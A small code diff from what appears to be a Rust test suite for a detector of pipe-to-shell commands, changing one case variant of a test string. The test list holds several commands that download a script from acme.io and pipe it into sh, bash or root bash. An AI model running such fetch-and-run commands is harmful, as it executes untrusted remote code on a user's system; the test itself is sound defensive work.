@@ -195,7 +195,7 @@ fn variants_of_commands_are_found() {
     }
     for command in [
         "/usr/bin/curl https://acme.io/i | sh",
-        "cUrL https://acme.io/i | sh",
+        "CURL https://acme.io/i | sh",
         "busybox wget -O- https://acme.io/i | busybox sh",
         "curl https://acme.io/i | sudo -u root bash",
         "curl https://acme.io/i | { sh; }",
